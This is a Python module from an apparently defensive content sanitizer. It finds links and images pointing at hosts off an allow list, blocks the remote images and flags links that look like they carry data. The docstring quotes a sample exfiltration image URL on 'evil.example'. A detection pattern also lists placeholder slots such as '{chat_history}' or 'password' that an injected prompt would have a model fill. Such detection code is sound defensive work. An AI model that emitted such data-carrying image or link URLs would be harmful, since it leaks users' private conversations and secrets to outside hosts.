"""Stage 3: links and images that point at hosts not on the allow list.

Images load by themselves when content is rendered, which makes them the classic exfiltration
channel (``![](https://evil.example/?q=DATA)``): an image from a host not on the allow list is
suspect, and its URL is replaced by :data:`BLOCKED_IMAGE` (the alt text stays). "Image" means
anything a renderer fetches unasked: markdown images (inline and by reference), and in HTML the
``src``, ``srcset``, ``poster``, ``background`` and ``data`` attributes, ``href`` on ``<link>``,
``<base>``, ``<image>`` and ``<use>``, and ``url(...)`` in a ``style`` attribute.

Links (markdown links, HTML ``href``/``action``, autolinks and bare URLs) to other hosts are
reported: suspect when they look like they carry data (a query over 64 characters, a token of 48+
characters that looks like base64 or hex, a slot naming private data such as ``{chat_history}``,
or a ``javascript:`` URL), info otherwise. Links are not rewritten.

A host is allowed when it equals an allowed host or is a subdomain of one. URLs are read the way
browsers read them: entities decoded, tabs and newlines dropped, ``\\`` as ``/``, user info
ignored, host lower-cased and IDNA-encoded. Relative URLs have no host and are not reported.
"""

from __future__ import annotations

import contextlib
import html
import re
from collections.abc import Callable, Iterable
from typing import Final

from broker.core.sanitizer.common import Edit, Sink, snippet
from broker.core.sanitizer.markup import attribute_values

BLOCKED_IMAGE: Final = "about:blank#blocked-image"

# Possessive quantifiers (Python 3.11+) never give back what they took: no backtracking.
_URL_CHARS = r"[^\s()<>]{1,2048}+(?:\([^\s()<>]{0,256}+\)[^\s()<>]{0,2048}+)?"
_MD_INLINE = re.compile(
    r"(?=[!\[])(!?)\[[^\[\]\n]{0,1000}+\]\(\s{0,8}+"
    rf"(?:<(?P<angled>[^<>\n]{{0,2048}}+)>|(?P<plain>{_URL_CHARS}))"
    r"""(?:\s{1,8}+(?:"[^"\n]{0,500}+"|'[^'\n]{0,500}+'|\([^()\n]{0,500}+\)))?\s{0,8}+\)"""
)
_MD_REF_DEF = re.compile(
    r"^[ ]{0,3}\[(?P<label>[^\[\]\n]{1,200}+)\]:[ \t]*+"
    r"(?:<(?P<angled>[^<>\n]{1,2048}+)>|(?P<plain>[^\s<>]{1,2048}+))",
    re.M,
)
_MD_REF_IMAGE = re.compile(r"!\[([^\[\]\n]{0,1000}+)\](?:\[([^\[\]\n]{0,200}+)\])?(?![(\[])")
_HTML_TAG = re.compile(r"<(?P<name>[a-z][\w:-]{0,63}+)(?P<attrs>(?=[\s/])[^<>]*+)>", re.I)
_URL_ATTR_HINT = re.compile(r"src|href|poster|background|data|action|url\(", re.I)
_BARE = re.compile(
    r"(?=[hHfFwWmM])(?<![\w@.+-])(?:(?i:https?|ftp|wss?)://|(?i:mailto):)"
    r"[^\s<>\"'`\\\[\]{}|^()]{1,2048}+"
)
# Every URL that can reach another host holds one of these (a scheme has ":", a network path
# "//" or "\\", an entity-encoded one "&#"); plain substring tests, much faster than a regex.
_MAY_LEAVE: Final = (":", "//", "\\", "&#")
_CSS_URL = re.compile(r"""url\(\s*['"]?([^'")\s]{1,2048})""", re.I)
_SRCSET_URL = re.compile(r"(?:^|,)\s*([^\s,]+)")
_TRAILING = ".,;:!?*_~'\""

_LOADING_ATTRS: Final = frozenset({"src", "srcset", "poster", "background", "data", "lowsrc"})
_LOADING_HREF_TAGS: Final = frozenset({"link", "base", "image", "use", "feimage"})
_LINK_ATTRS: Final = frozenset({"href", "action", "formaction", "xlink:href"})

_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]{0,31}):")
_NETWORK_SCHEMES: Final = frozenset({"http", "https", "ftp", "ws", "wss"})
_AUTHORITY_END = re.compile(r"[/\\?#]")
_DATA_TOKEN = re.compile(r"[A-Za-z0-9+_=%-]{48,}")
_HEX = re.compile(r"[0-9a-fA-F]+")
_SEPARATORS = re.compile(r"[-_.+=]|%[0-9A-Fa-f]{2}")
# A template slot the model is meant to fill with something it knows, e.g. ?q={chat_history}.
# URL templates in code (/repos/{owner}, ?page={page}) name no private data and are not counted.
_PLACEHOLDER = re.compile(
    r"(?:\{\{?|<|\[)[\w .-]{0,30}(?:conversation|chat|history|secret|password|passwd|memory|"
    r"summary|prompt|credential|private|personal)[\w .-]{0,30}(?:\}\}?|>|\])",
    re.I,
)
_QUERY_LIMIT = 64
_URL_CACHE = 4096


def normalize_host(host: str) -> str:
    host = host.strip().rstrip(".").lower()
    if not host.isascii():
        with contextlib.suppress(UnicodeError):  # not a valid IDN: compare as it is
            host = host.encode("idna").decode("ascii")
    return host


def _parse(url: str) -> tuple[str, str, str] | None:
    """(scheme, host, rest after the host) of a URL that leaves the page; None if it does not."""
    url = html.unescape(url) if "&" in url else url
    url = url.strip("\x00 \t\n\r\f").replace("\t", "").replace("\n", "").replace("\r", "")
    if url[:2] in ("//", "\\\\", "/\\", "\\/"):
        scheme, rest = "", url
    else:
        m = _SCHEME.match(url)
        if m is None:
            return None
        scheme, rest = m.group(1).lower(), url[m.end() :]
        if scheme in ("javascript", "vbscript"):
            return scheme, "", rest
        if scheme == "mailto":
            address, _, query = rest.partition("?")
            return scheme, normalize_host(address.rpartition("@")[2]), "?" + query if query else ""
        if scheme not in _NETWORK_SCHEMES:
            return None
    rest = rest.lstrip("/\\")
    end = _AUTHORITY_END.search(rest)
    authority, tail = (rest[: end.start()], rest[end.start() :]) if end else (rest, "")
    host = authority.rpartition("@")[2]
    if host.startswith("["):
        host = host[1 : host.find("]")] if "]" in host else host[1:]
    else:
        host = host.partition(":")[0]
    return scheme, normalize_host(host), tail


def _looks_like_data(token: str) -> bool:
    """A long URL token that carries data rather than words: a hash or ciphertext (hex), or a
    long run mixing cases and digits (base64). Slugs (``200034365_An_Improved_Algorithm``) and
    percent-encoded titles (``Lenstra%E2%80%93Lenstra``) are words joined by separators."""
    if _HEX.fullmatch(token):
        return True
    longest = max(_SEPARATORS.split(token), key=len)
    return (
        len(longest) >= 24
        and any(c.isupper() for c in longest)
        and any(c.islower() for c in longest)
        and any(c.isdigit() for c in longest)
    )


def _data_reason(scheme: str, tail: str) -> str | None:
    if scheme in ("javascript", "vbscript"):
        return "script that runs when followed"
    query = tail.partition("?")[2]
    if len(query) > _QUERY_LIMIT:
        return f"a query of {len(query)} characters"
    if any(_looks_like_data(token.group()) for token in _DATA_TOKEN.finditer(tail)):
        return "a data-like token"
    if _PLACEHOLDER.search(tail):
        return "a placeholder for private data"
    return None


_UrlCallback = Callable[[int, str, bool], None]  # (offset, URL, loads by itself)


class LinkScanner:
    """Finds links and images in a text; one per ``sanitize`` call (it caches host decisions)."""

    def __init__(self, allowed: Iterable[str]) -> None:
        self._allowed = tuple(
            h for h in (normalize_host(a).removeprefix("*.") for a in allowed) if h
        )
        self._verdicts: dict[str, bool] = {}
        self._urls: dict[str, tuple[str, str | None] | None] = {}

    def _allowed_host(self, host: str) -> bool:
        verdict = self._verdicts.get(host)
        if verdict is None:
            verdict = bool(host) and any(host == a or host.endswith("." + a) for a in self._allowed)
            self._verdicts[host] = verdict
        return verdict

    def _verdict(self, url: str) -> tuple[str, str | None] | None:
        """(host, data reason) for a URL that leaves for a host not allowed, else None."""
        if url in self._urls:
            return self._urls[url]
        parsed = _parse(url)
        verdict: tuple[str, str | None] | None = None
        if parsed is not None:
            scheme, host, tail = parsed
            if scheme in ("javascript", "vbscript") or not self._allowed_host(host):
                verdict = (
                    snippet(host, 40) if host else f"{scheme}:",
                    _data_reason(scheme, tail),
                )
        if len(self._urls) < _URL_CACHE:
            self._urls[url] = verdict
        return verdict

    def _judge(self, url: str, offset: int, image: bool, sink: Sink, removed: bool) -> bool:
        """Reports a URL that leaves for a host not allowed; True if it is a blocked image."""
        verdict = self._verdict(url)
        if verdict is None:
            return False
        where, reason = verdict
        kind = "remote_image" if image else "exfil_link" if reason else "external_link"
        if sink.full(kind):
            sink.drop()
        elif image:
            extra = f", carrying {reason}" if reason else ""
            fate = "in hidden content, removed" if removed else "URL replaced"
            sink.add(kind, f"image from {where} (not allowed){extra}; {fate}", offset)
        elif reason and where.endswith(":"):  # javascript: and vbscript: have no host
            sink.add(kind, f"{where} link: {reason}", offset)
        elif reason:
            sink.add(kind, f"link to {where} carrying {reason}", offset)
        else:
            sink.add(kind, f"link to {where}", offset)
        return image

    def scan(self, text: str, sink: Sink, *, removed: bool = False) -> list[Edit]:
        """Reports the links and images in ``text``; returns the edits that block the images.
        ``removed``: the text is hidden content about to be dropped (reported, not rewritten)."""
        if not any(mark in text for mark in _MAY_LEAVE):  # no URL here can leave the page
            return []
        edits: list[Edit] = []
        seen: set[int] = set()

        def url(start: int, value: str, image: bool) -> None:
            seen.add(start)
            if self._judge(value, start, image, sink, removed):
                edits.append((start, start + len(value), BLOCKED_IMAGE))

        if "](" in text:
            for m in _MD_INLINE.finditer(text):
                group = "angled" if m.group("angled") is not None else "plain"
                url(m.start(group), m.group(group), m.group(1) == "!")
        if "]:" in text:
            self._references(text, url)
        if "<" in text:
            for m in _HTML_TAG.finditer(text):
                if _URL_ATTR_HINT.search(m.group("attrs")) is not None:
                    self._tag(m.group("name").lower(), m.group("attrs"), m.start("attrs"), url)
        for m in _BARE.finditer(text):
            if m.start() not in seen:  # a URL the forms above have already judged
                seen.add(m.start())
                self._judge(m.group().rstrip(_TRAILING), m.start(), False, sink, removed)
        edits.sort()
        return edits

    @staticmethod
    def _references(text: str, url: _UrlCallback) -> None:
        """Reference-style markdown: a definition is an image when an image uses its label."""
        image_labels = {
            " ".join((m.group(2) or m.group(1)).split()).casefold()
            for m in _MD_REF_IMAGE.finditer(text)
        }
        for m in _MD_REF_DEF.finditer(text):
            group = "angled" if m.group("angled") is not None else "plain"
            label = " ".join(m.group("label").split()).casefold()
            url(m.start(group), m.group(group), label in image_labels)

    @staticmethod
    def _tag(name: str, attrs: str, base: int, url: _UrlCallback) -> None:
        for attr, value, at in attribute_values(attrs):
            if value is None:
                continue
            start = base + at
            if attr == "style":
                for css in _CSS_URL.finditer(value):
                    url(start + css.start(1), css.group(1), True)
            elif attr == "srcset":
                for candidate in _SRCSET_URL.finditer(value):
                    url(start + candidate.start(1), candidate.group(1), True)
            elif attr in _LOADING_ATTRS or (attr in _LINK_ATTRS and name in _LOADING_HREF_TAGS):
                url(start, value, True)
            elif attr in _LINK_ATTRS:
                url(start, value, False)
